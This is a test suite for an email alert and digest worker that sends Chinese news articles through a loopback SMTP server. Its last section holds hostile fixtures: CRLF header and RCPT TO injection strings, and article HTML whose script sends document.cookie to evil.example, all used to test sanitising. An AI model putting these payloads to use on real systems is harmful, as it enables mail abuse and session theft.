/**
 * The email worker end to end: real articles and subscriptions on the memory store, the
 * dispatcher recording deliveries, the pooled nodemailer transport, and a real SMTP server
 * on loopback whose messages are checked raw and parsed (mailparser).
 */
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { Dispatcher } from '../../../src/delivery/dispatch.js';
import { Outbox } from '../../../src/delivery/outbox.js';
import type { Article } from '../../../src/domain/article.js';
import type { Delivery, Subscription } from '../../../src/domain/subscription.js';
import { silentLogger } from '../../../src/ops/logger.js';
import { createMetrics, type Metrics } from '../../../src/ops/metrics.js';
import { leadSummary } from '../../../src/normalize/summary.js';
import { bounceKey, EmailNotifier, emailMetrics, type EmailNotifierDeps } from '../../../src/notify/email/email-notifier.js';
import { verifyToken } from '../../../src/notify/email/tokens.js';
import { createMailTransport } from '../../../src/notify/email/transport.js';
import { openKeyValue, type KeyValue } from '../../../src/store/keyv-store.js';
import { createStore, type Store } from '../../../src/store/store.js';
import { SubscriptionStore } from '../../../src/subscriptions/subscription-store.js';
import { headerLines, startSmtpDouble, type SmtpDouble } from './smtp-double.js';
import { storedArticle } from '../../helpers/articles.js';

const SECRET = 'test-secret-0123456789abcdef';
const PUBLIC_URL = 'https://news.example.org';
const T0 = Date.parse('2024-10-13T12:00:00Z');
const ADDRESS = 'reader@example.com';

// The mrxw report from the shared corpus (seed 004).
const REPORT_TITLE = '第七次全国科技援疆暨“四方合作”推进会议在乌鲁木齐召开';
const REPORT =
  '第七次全国科技援疆暨“四方合作”推进会议10月13日上午在乌鲁木齐召开,深入学习习近平新时代中国特色社会主义思想,认真贯彻党的二十届三中全会、全国科技大会精神和党中央关于新时代对口援疆工作的决策部署,共商新时期科技援疆的目标思路和任务举措。马兴瑞代表自治区党委、政府和兵团,对科技部等国家部委和各援疆省市对新疆科技事业的支持和帮助表示感谢。新疆维吾尔自治区科技厅、兵团科技局与援疆省市科技部门签署了新一轮科技对口援疆创新合作协议。';

const SECOND =
  '本次会议由科技部和自治区人民政府共同主办。来自十九个援疆省市的科技部门负责人参加会议，交流了近年来科技援疆的经验做法，围绕人才交流、平台共建、成果转化等方面提出了下一步合作建议。会议期间还举行了成果展示，集中展示了援疆省市与新疆联合攻关取得的一批重要科技成果，涉及现代农业、新能源、新材料等多个领域，参会代表纷纷表示将进一步深化合作。';

interface Env {
  kv: KeyValue;
  store: Store;
  outbox: Outbox;
  subs: SubscriptionStore;
  dispatcher: Dispatcher;
  metrics: Metrics;
  smtp: SmtpDouble;
  transport: ReturnType<typeof createMailTransport>;
  t: number;
}

let env: Env;

beforeEach(async () => {
  const kv = await openKeyValue('memory');
  const store = createStore(kv);
  const subs = new SubscriptionStore(kv, store, { perSubscriber: 50, maxLength: 500 });
  const outbox = new Outbox(kv, store, 86_400_000);
  const smtp = await startSmtpDouble();
  env = {
    kv,
    store,
    outbox,
    subs,
    dispatcher: new Dispatcher(subs, outbox, { timeZone: 'Asia/Shanghai', alertSpam: false }),
    metrics: createMetrics({ defaultMetrics: false }),
    smtp,
    transport: createMailTransport(smtp.url, { maxConnections: 2 }),
    t: T0,
  };
});

afterEach(async () => {
  env.transport.close();
  await env.smtp.close();
  await env.store.close();
});

function notifier(over: Partial<EmailNotifierDeps> = {}): EmailNotifier {
  return new EmailNotifier({
    transport: env.transport,
    outbox: env.outbox,
    subscriptions: env.subs,
    store: env.store,
    kv: env.kv,
    sourceName: (id) => ({ mrxw: '每日新闻网 科技前沿', xjkjt: '新疆科技厅' })[id] ?? id,
    logger: silentLogger(),
    metrics: emailMetrics(env.metrics.registry),
    render: { publicUrl: PUBLIC_URL, secret: SECRET, mailFrom: 'tidings <alerts@news.example.org>' },
    timeZone: 'Asia/Shanghai',
    maxFailures: 3,
    concurrency: 4,
    now: () => env.t,
    random: () => 0.5,
    ...over,
  });
}

let seq = 0;

function article(over: Partial<Article> = {}): Article {
  const n = ++seq;
  return storedArticle({
    id: `mrxw-${n}`,
    url: `https://www.mrxw.example/kjqy/2024-10-13/88${n}.html`,
    title: REPORT_TITLE,
    updated: '2024-10-13T18:44:04+08:00',
    origin: '央视新闻客户端',
    text: REPORT,
    summary: REPORT.slice(0, 300),
    html: `<p>${REPORT}</p>`,
    tags: ['科技援疆'],
    storedAt: '2024-10-13T11:00:00Z',
    ...over,
  });
}

async function subscribe(query: string, over: { address?: string; digestAt?: string } = {}): Promise<Subscription> {
  return env.subs.add({
    subscriber: { kind: 'email', address: over.address ?? ADDRESS },
    query,
    ...(over.digestAt ? { mode: 'digest' as const, digestAt: over.digestAt } : {}),
    createdBy: 'cli',
  });
}

/** Store the articles and record their deliveries as a poll would. */
async function publish(...articles: Article[]): Promise<Delivery[]> {
  for (const a of articles) await env.store.putArticle(a);
  return env.dispatcher.dispatch(articles, new Date(env.t));
}

async function status(d: Delivery): Promise<Delivery> {
  return (await env.outbox.get(d.key))!;
}

async function metric(name: string, labels: Record<string, string> = {}): Promise<number> {
  const m = (await env.metrics.registry.getSingleMetric(name)?.get())?.values ?? [];
  return m.filter((v) => Object.entries(labels).every(([k, val]) => v.labels[k] === val)).reduce((sum, v) => sum + v.value, 0);
}

function header(raw: string, name: string): string[] {
  return headerLines(raw)
    .filter((l) => l.toLowerCase().startsWith(`${name.toLowerCase()}:`))
    .map((l) => l.slice(name.length + 1).trim());
}

/** RFC 2047 encoded words (B and Q, UTF-8) decoded; the space between adjacent words dropped. */
function decodeWords(value: string): string {
  return value
    .replace(/\?=\s+=\?/g, '?==?')
    .replace(/=\?UTF-8\?([BQ])\?([^?]*)\?=/gi, (_m, enc: string, data: string) =>
      enc.toUpperCase() === 'B'
        ? Buffer.from(data, 'base64').toString('utf8')
        : Buffer.from(data.replace(/_/g, ' ').replace(/=([0-9A-F]{2})/gi, (_x, h: string) => String.fromCharCode(parseInt(h, 16))), 'latin1').toString('utf8'),
    );
}

describe('alert emails', () => {
  it('sends one message per story with the headers, both parts in order and a working one-click unsubscribe', async () => {
    const sub = await subscribe('四方合作');
    // Two paragraphs, 430 characters: the lead stops at a sentence end within about 300.
    const [d] = await publish(article({ author: '李明', text: `${REPORT}\n${SECOND}`, summary: leadSummary(`${REPORT}\n${SECOND}`, 300), html: `<p>${REPORT}</p><p>${SECOND}</p>` }));
    const report = await notifier().drain();
    expect(report).toMatchObject({ taken: 1, sent: 1, messages: 1, failed: 0, retried: 0 });
    await env.smtp.waitFor(1);
    const [m] = env.smtp.received;
    const mail = m!.parsed;

    // Envelope: the fixed sender, the one subscriber.
    expect(m!.from).toBe('alerts@news.example.org');
    expect(m!.to).toEqual([ADDRESS]);
    expect(mail.from?.value).toEqual([{ name: '每日新闻网 科技前沿: 李明', address: 'alerts@news.example.org' }]);
    expect(mail.to && !Array.isArray(mail.to) ? mail.to.value.map((v) => v.address) : []).toEqual([ADDRESS]);

    // Subject: RFC 2047 on the wire, the query and title when decoded.
    expect(header(m!.raw, 'Subject')[0]).toMatch(/^=\?UTF-8\?[BQ]\?/);
    expect(mail.subject).toBe(`[tidings] 四方合作: ${REPORT_TITLE}`);
    expect(mail.subject!.startsWith('[tidings] 四方合作: 第七次全国科技援疆')).toBe(true);

    // One of each header.
    for (const name of ['From', 'To', 'Subject', 'Date', 'Message-ID', 'List-Id', 'List-Unsubscribe', 'List-Unsubscribe-Post', 'X-Tidings-Source', 'X-Tidings-Query', 'MIME-Version']) {
      expect(header(m!.raw, name), name).toHaveLength(1);
    }
    expect(mail.messageId).toMatch(/^<[0-9a-f]{32}@tidings\.news\.example\.org>$/);
    expect(header(m!.raw, 'List-Id')[0]).toBe('tidings <tidings.news.example.org>');
    expect(header(m!.raw, 'List-Unsubscribe-Post')[0]).toBe('List-Unsubscribe=One-Click');
    expect(decodeWords(header(m!.raw, 'X-Tidings-Query')[0]!)).toBe('四方合作');
    expect(decodeWords(header(m!.raw, 'X-Tidings-Source')[0]!)).toBe('mrxw 每日新闻网 科技前沿');
    expect(mail.date?.getTime()).toBe(T0);

    const unsubscribe = /^<(https:\/\/news\.example\.org\/unsubscribe\?t=([^>]+))>$/.exec(header(m!.raw, 'List-Unsubscribe')[0]!);
    expect(unsubscribe).not.toBeNull();
    expect(verifyToken(SECRET, 'unsubscribe', unsubscribe![2])).toBe(sub.id);
    expect(verifyToken('another-secret-0123456789', 'unsubscribe', unsubscribe![2])).toBeUndefined();

    // multipart/alternative: text/plain first, text/html last.
    expect(header(m!.raw, 'Content-Type')[0]).toMatch(/^multipart\/alternative;/);
    const plainAt = m!.raw.indexOf('Content-Type: text/plain');
    const htmlAt = m!.raw.indexOf('Content-Type: text/html');
    expect(plainAt).toBeGreaterThan(0);
    expect(htmlAt).toBeGreaterThan(plainAt);
    expect(m!.raw.match(/Content-Type: text\//g)).toHaveLength(2);

    // Text part: wrapped at 78 columns (CJK counts two), URL lines whole.
    const text = mail.text!;
    expect(text.split('\n')[0]).toBe(REPORT_TITLE);
    expect(text).toContain(`URL: ${'https://www.mrxw.example/kjqy/2024-10-13/88'}`);
    expect(text).toContain('订阅：四方合作');
    const columns = (line: string) => Array.from(line).reduce((w, ch) => w + (/[\u2e80-\u9fff\u3000-\u303f\uff00-\uff60]/u.test(ch) ? 2 : 1), 0);
    for (const line of text.split('\n')) if (!/^URL: /.test(line)) expect(columns(line), line).toBeLessThanOrEqual(78);
    expect(text).toContain(`URL: ${unsubscribe![1]}`);

    // HTML part: linked <h1> title, source · author · local time, summary cut at a sentence end, footer.
    const html = mail.html as string;
    expect(html).toMatch(/<html lang="zh-CN" dir="auto">/);
    expect(html).toContain(`<a href="https://www.mrxw.example/kjqy/2024-10-13/88${seq}.html" style="color:#1f2328;text-decoration:none;">${REPORT_TITLE}</a></h1>`);
    expect(html).toContain('每日新闻网 科技前沿 · 李明 · 2024-10-13 18:44');
    expect(html).not.toMatch(/<style|class=/);
    expect(html).toContain('签署了新一轮科技对口援疆创新合作协议。'); // the first paragraph whole
    expect(html).toContain('本次会议由科技部和自治区人民政府共同主办。'); // the second cut at a sentence end
    expect(html).not.toContain('会议期间还举行了成果展示'); // beyond ~300 characters
    expect(text).not.toContain('会议期间还举行了成果展示');
    expect(html).toContain('来自 每日新闻网 科技前沿');
    expect(html).toContain(`href="${unsubscribe![1]}"`);

    expect((await status(d!)).status).toBe('sent');
    expect(await metric('tidings_email_sent_total', { kind: 'alert' })).toBe(1);
  });

  it('never shows a placeholder author: From is the source name alone, and an author that is the source is hidden', async () => {
    await subscribe('科技援疆');
    await publish(article({ author: null }), article({ author: '每日新闻网', url: 'https://www.mrxw.example/other.html', title: '另一篇科技援疆报道' }));
    await notifier().drain();
    await env.smtp.waitFor(2);
    const names = env.smtp.received.map((m) => m.parsed.from?.value[0]?.name).sort();
    expect(names).toEqual(['每日新闻网 科技前沿', '每日新闻网 科技前沿']);
    for (const m of env.smtp.received) expect(m.raw).not.toMatch(/&lt;author&gt;|<author>|undefined|null/);
  });

  it('also reported by: the other sources carrying the story are named and linked', async () => {
    await subscribe('四方合作');
    const first = article();
    await env.store.putArticle(first);
    const copy = article({ sourceId: 'xjkjt', url: 'https://kjt.xinjiang.example.gov.cn/2024/1013/1.html', duplicateOf: first.url });
    const { fingerprint, bandKeys } = await import('../../../src/dedupe/minhash.js');
    const { matchForm } = await import('../../../src/normalize/fold-width.js');
    const fp = fingerprint(matchForm(`${copy.title}\n${copy.text}`))!;
    // Filed as the poll's story linking files them: band members and their fingerprints.
    await env.store.addToLsh(bandKeys(fp), copy.id, 86_400_000);
    await env.store.addToLsh(bandKeys(fp), first.id, 86_400_000);
    for (const a of [first, copy]) await env.store.putFingerprint(a.id, { ...fp, url: a.url, published: a.published, storedAt: a.storedAt, sourceId: a.sourceId }, 86_400_000);
    await publish(copy);
    await notifier().drain();
    await env.smtp.waitFor(1);
    const mail = env.smtp.received[0]!.parsed;
    expect(mail.html).toContain(`其他来源：<a href="${first.url}" style="color:#1a56db;">每日新闻网 科技前沿</a>`);
    expect(mail.text).toContain(`- 每日新闻网 科技前沿 ${first.url}`);
  });
});

describe('SMTP failures', () => {
  it('a 450 at RCPT TO and a 421 at DATA are retried later with backoff, then delivered', async () => {
    await subscribe('四方合作');
    const [d] = await publish(article());
    let rcpt = 0;
    env.smtp.onRcpt = () => (++rcpt === 1 ? { code: 450, message: 'Mailbox busy, try later' } : undefined);
    let data = 0;
    env.smtp.onData = () => (++data === 1 ? { code: 421, message: 'Service shutting down, try later' } : undefined);
    const n = notifier();

    const r1 = await n.drain();
    expect(r1).toMatchObject({ retried: 1, sent: 0, failed: 0 });
    const after1 = await status(d!);
    expect(after1.status).toBe('pending');
    expect(after1.lastError).toContain('450');
    // 30 s base, half fixed and half jitter (random 0.5): 22.5 s.
    expect(Date.parse(after1.notBefore) - env.t).toBe(22_500);
    expect(await n.drain()).toMatchObject({ taken: 0 }); // not due yet

    env.t += 22_500;
    const r2 = await n.drain();
    expect(r2).toMatchObject({ retried: 1, sent: 0 });
    const after2 = await status(d!);
    expect(after2.lastError).toContain('421');
    expect(Date.parse(after2.notBefore) - env.t).toBe(45_000); // doubled

    env.t += 45_000;
    expect(await n.drain()).toMatchObject({ sent: 1, messages: 1 });
    await env.smtp.waitFor(1);
    expect(env.smtp.received).toHaveLength(1);
    expect((await status(d!)).status).toBe('sent');
    expect(await metric('tidings_email_retried_total', { reason: 'transient' })).toBe(2);
  });

  it('a 4xx that never clears is retried for DELIVERY_RETRY_FOR from the first failure, then fails as expired', async () => {
    const sub = await subscribe('四方合作');
    const [d] = await publish(article());
    env.smtp.onRcpt = () => ({ code: 452, message: 'Mailbox full' });
    const n = notifier({ retryForMs: 2 * 3_600_000 });
    const first = env.t;
    let tries = 0;
    for (;;) {
      const r = await n.drain();
      tries++;
      const now = await status(d!);
      if (now.status !== 'pending') {
        expect(r).toMatchObject({ failed: 1, retried: 0 });
        break;
      }
      expect(now.firstFailedAt).toBe(new Date(first).toISOString());
      // Tried again when due: still within the two hours until the last try.
      expect(env.t - first).toBeLessThan(2 * 3_600_000);
      env.t = Date.parse(now.notBefore);
    }
    const failed = await status(d!);
    expect(failed.status).toBe('failed');
    expect(failed.lastError).toMatch(/^given up after 2 h of failed attempts \(\d+\); last: 452 Mailbox full/);
    expect(env.t - first).toBeGreaterThanOrEqual(2 * 3_600_000);
    // 30 s doubling, capped at 1 h: 22.5 s, 45 s, … the tries before the cap, then hourly.
    expect(tries).toBeGreaterThan(5);
    expect(await metric('tidings_email_failed_total', { reason: 'expired' })).toBe(1);
    expect(env.smtp.received).toHaveLength(0);
    // Not a bounce: the address is not counted against, nor paused.
    expect(await env.kv.get(bounceKey(sub.subscriberKey))).toBeUndefined();
    expect((await env.subs.listOf(sub.subscriberKey))[0]!.paused).toBeFalsy();
  });

  it('550 fails the delivery, counts it against the address, and pauses the address (bounced) after EMAIL_MAX_FAILURES', async () => {
    const sub = await subscribe('科技援疆');
    const other = await subscribe('科技援疆', { address: 'fine@example.com' });
    env.smtp.onRcpt = (address) => (address === ADDRESS ? { code: 550, message: 'No such user here' } : undefined);
    const n = notifier({ concurrency: 1 });
    const deliveries: Delivery[] = [];
    for (let i = 0; i < 3; i++) {
      deliveries.push(...(await publish(article({ title: `科技援疆第${i}篇` }))));
      await n.drain();
      expect(await env.kv.get<number>(bounceKey(sub.subscriberKey))).toBe(i + 1);
      expect((await env.subs.get(sub.id))!.paused).toBe(i + 1 >= 3);
    }
    const mine = deliveries.filter((d) => d.subscriberKey === sub.subscriberKey);
    for (const d of mine) {
      const s = await status(d);
      expect(s.status).toBe('failed');
      expect(s.lastError).toContain('550');
    }
    expect(await env.subs.get(sub.id)).toMatchObject({ paused: true, pausedReason: 'bounced' });
    expect((await env.subs.get(other.id))!.paused).toBe(false);
    expect(await metric('tidings_email_paused_addresses_total')).toBe(1);

    // Later stories: no delivery for the paused address, none sent to it.
    const rcptsBefore = env.smtp.rcpts.filter((a) => a === ADDRESS).length;
    await publish(article({ title: '科技援疆第四篇' }));
    await n.drain();
    expect(env.smtp.rcpts.filter((a) => a === ADDRESS).length).toBe(rcptsBefore);
    await env.smtp.waitFor(4);
    expect(env.smtp.received.every((m) => m.to.join() === 'fine@example.com')).toBe(true);
  });

  it('a delivered message resets the permanent-failure count of its address (and writes nothing for addresses without one)', async () => {
    const sub = await subscribe('科技援疆');
    const other = await subscribe('科技援疆', { address: 'fine@example.com' });
    await env.kv.set(bounceKey(sub.subscriberKey), 2);
    const deletes: string[] = [];
    const del = env.kv.delete.bind(env.kv);
    env.kv.delete = async (key: string) => {
      deletes.push(key);
      return del(key);
    };
    await publish(article());
    expect(await notifier().drain()).toMatchObject({ sent: 2, messages: 2 });
    expect(await env.kv.get<number>(bounceKey(sub.subscriberKey))).toBeUndefined();
    expect(deletes).toContain(bounceKey(sub.subscriberKey));
    expect(deletes).not.toContain(bounceKey(other.subscriberKey));
  });

  it('a delivery already due for an address that gets paused fails without a send', async () => {
    const sub = await subscribe('科技援疆');
    const [d] = await publish(article());
    await env.subs.updateAllOf(sub.subscriberKey, (s) => ({ ...s, paused: true, pausedReason: 'bounced' }));
    expect(await notifier().drain()).toMatchObject({ failed: 1, sent: 0 });
    expect(env.smtp.rcpts).toEqual([]);
    expect((await status(d!)).lastError).toContain('paused (bounced)');
  });

  it('a connection dropped after the server read the DATA: counted, sent again with the same Message-ID (at least once)', async () => {
    await subscribe('四方合作');
    const [d] = await publish(article());
    let data = 0;
    env.smtp.onData = () => (++data === 1 ? 'drop' : undefined);
    const n = notifier();
    const r1 = await n.drain();
    expect(r1).toMatchObject({ retried: 1, ambiguous: 1, sent: 0 });
    expect((await status(d!)).status).toBe('pending');
    expect(await metric('tidings_email_ambiguous_total')).toBe(1);
    expect(await metric('tidings_email_retried_total', { reason: 'dropped' })).toBe(1);

    env.t += 3_600_000;
    expect(await n.drain()).toMatchObject({ sent: 1 });
    await env.smtp.waitFor(2);
    const [first, second] = env.smtp.received;
    expect(first!.parsed.messageId).toBeDefined();
    expect(second!.parsed.messageId).toBe(first!.parsed.messageId);
    expect((await status(d!)).status).toBe('sent');
  });

  it('a send left in `sending` by a crash is sent again at start, with the same Message-ID', async () => {
    await subscribe('四方合作');
    const [d] = await publish(article());
    const n1 = notifier();
    await n1.drain();
    await env.smtp.waitFor(1);
    // As if the process died after the server accepted it but before markSent.
    await env.kv.set(`delivery:${d!.key}`, { ...(await status(d!)), status: 'sending', sentAt: undefined });
    await env.outbox.enqueue([d!]);
    const n2 = notifier();
    n2.start(60_000);
    await env.smtp.waitFor(2);
    await n2.stop();
    expect(env.smtp.received[1]!.parsed.messageId).toBe(env.smtp.received[0]!.parsed.messageId);
    expect((await status(d!)).status).toBe('sent');
  });
});

describe('digests', () => {
  it('one message per address at the digest time, grouped by query, newest first, with a linked table of contents', async () => {
    const a = await subscribe('四方合作', { digestAt: '08:00' });
    const b = await subscribe('乌鲁木齐 OR 克拉玛依', { digestAt: '08:00' });
    // An address whose digest matches nothing gets no mail.
    await subscribe('不会出现的词', { address: 'quiet@example.com', digestAt: '08:00' });
    const older = article({ title: '四方合作早间消息', published: '2024-10-13T08:00:00+08:00', text: `${REPORT}` });
    const newer = article({ title: '四方合作晚间消息', published: '2024-10-13T20:00:00+08:00' });
    const other = article({ title: '克拉玛依调研', text: '自治区科技厅赴克拉玛依市调研科技工作。', summary: '自治区科技厅赴克拉玛依市调研科技工作。', html: '', published: '2024-10-13T19:00:00+08:00' });
    const recorded = await publish(older, newer, other);
    expect(recorded.every((d) => d.notBefore === '2024-10-14T00:00:00.000Z')).toBe(true); // 08:00 Asia/Shanghai

    const n = notifier();
    expect(await n.drain()).toMatchObject({ taken: 0, messages: 0 }); // not yet the digest time
    env.t = Date.parse('2024-10-14T00:00:00Z');
    const report = await n.drain();
    expect(report).toMatchObject({ taken: 3, sent: 3, messages: 1, digests: 1 });
    await env.smtp.waitFor(1);
    expect(env.smtp.received).toHaveLength(1);
    const m = env.smtp.received[0]!;
    expect(m.to).toEqual([ADDRESS]);
    expect(m.parsed.subject).toBe('[tidings] 每日摘要 2024-10-14：3 篇');
    // Several subscriptions: List-Unsubscribe is the address's all-in-one link.
    const token = /unsubscribe\?t=([^>]+)>/.exec(header(m.raw, 'List-Unsubscribe')[0]!)![1];
    expect(verifyToken(SECRET, 'unsubscribe-all', token)).toBe(ADDRESS);

    const html = m.parsed.html as string;
    // Contents: both queries linked to their sections, each article linked to its entry.
    expect(html).toContain('<a href="#q1"');
    expect(html).toContain('<a href="#q2"');
    for (const id of ['a1', 'a2', 'a3']) {
      expect(html).toContain(`<a href="#${id}"`);
      expect(html).toContain(`id="${id}"`);
    }
    // Grouped by query; newest first within a group.
    const pos = (s: string) => html.lastIndexOf(s);
    expect(pos('id="q1"')).toBeLessThan(pos('四方合作晚间消息'));
    expect(pos('四方合作晚间消息')).toBeLessThan(pos('四方合作早间消息'));
    expect(pos('四方合作早间消息')).toBeLessThan(pos('id="q2"'));
    expect(pos('id="q2"')).toBeLessThan(pos('克拉玛依调研'));
    const text = m.parsed.text!;
    expect(text.indexOf('[1] 四方合作晚间消息')).toBeLessThan(text.indexOf('[2] 四方合作早间消息'));
    expect(text).toContain(`== 订阅：${a.query} ==`);
    expect(text).toContain(`== 订阅：${b.query} ==`);
    expect(m.raw.indexOf('Content-Type: text/plain')).toBeLessThan(m.raw.indexOf('Content-Type: text/html'));

    // Nothing left: the next drain sends nothing.
    expect(await n.drain()).toMatchObject({ taken: 0, messages: 0 });
    expect(env.smtp.rcpts).toEqual([ADDRESS]);
  });
});

describe('header injection and hostile content', () => {
  const evil = '\r\nBcc: victim@evil.example\r\nX-Injected: yes';

  it('CRLF + Bcc in a title, a query and a source name add no header and no recipient', async () => {
    // The query parser would refuse this query; written to the store directly, as an older version might have kept it.
    const sub = await subscribe('四方合作');
    await publish(article({ title: `四方合作${evil}`, author: `记者${evil}` }));
    await env.kv.set(`sub:${sub.id}`, { ...sub, query: `四方合作${evil}` });
    await notifier({ sourceName: () => `每日新闻网${evil}` }).drain();
    await env.smtp.waitFor(1);
    const m = env.smtp.received[0]!;
    expect(env.smtp.rcpts).toEqual([ADDRESS]);
    expect(m.to).toEqual([ADDRESS]);
    const lines = headerLines(m.raw);
    expect(lines.filter((l) => /^bcc:/i.test(l))).toEqual([]);
    expect(lines.filter((l) => /^x-injected:/i.test(l))).toEqual([]);
    expect(lines.filter((l) => /^subject:/i.test(l))).toHaveLength(1);
    expect(lines.filter((l) => /^from:/i.test(l))).toHaveLength(1);
    expect(m.parsed.bcc).toBeUndefined();
    expect(m.parsed.subject).toBe('[tidings] 四方合作 Bcc: victim@evil.example X-Injected: yes: 四方合作 Bcc: victim@evil.example X-Injected: yes');
    expect(m.parsed.from?.value).toHaveLength(1);
    expect(m.parsed.from?.value[0]!.address).toBe('alerts@news.example.org');
  });

  it('an address carrying CRLF or a second mailbox is refused without a send', async () => {
    const sub = await subscribe('四方合作');
    const [d] = await publish(article());
    await env.kv.set(`delivery:${d!.key}`, { ...d!, subscriber: { kind: 'email', address: `${ADDRESS}\r\nRCPT TO:<victim@evil.example>` } });
    expect(await notifier().drain()).toMatchObject({ failed: 1, sent: 0 });
    expect(env.smtp.rcpts).toEqual([]);
    expect((await status(d!)).lastError).toMatch(/^invalid address/);
    expect(sub.paused).toBe(false);
  });

  it('hostile article HTML is sanitized: no script, handlers, javascript:, frames, styles or tracking pixels', async () => {
    await subscribe('四方合作');
    const hostile = [
      '<p onclick="steal()">四方合作推进会议召开。<script>document.location="https://evil.example/?c="+document.cookie</script></p>',
      '<p style="position:fixed;top:0">会议签署协议。<a href="javascript:alert(1)">点击</a> <a href="https://ok.example/x">链接</a></p>',
      '<img src="https://hm.baidu.com/hm.gif?id=1"><img src="https://img.example/1x1.gif" width="1" height="1">',
      '<iframe src="https://evil.example/frame"></iframe><style>body{display:none}</style>',
      '<img src="x" onerror="alert(1)"><svg onload="alert(1)"></svg><form action="https://evil.example"><input name="p"></form>',
    ].join('');
    await publish(article({ html: hostile }));
    await notifier().drain();
    await env.smtp.waitFor(1);
    const html = env.smtp.received[0]!.parsed.html as string;
    expect(html).toContain('四方合作推进会议召开。');
    expect(html).toContain('<a style="color:#1a56db;" href="https://ok.example/x">链接</a>');
    expect(html).not.toMatch(/<script|onclick|onerror|onload|javascript:|<iframe|<svg|<form|<input|position:fixed|display:none|hm\.baidu\.com|1x1\.gif|evil\.example/i);
  });
});
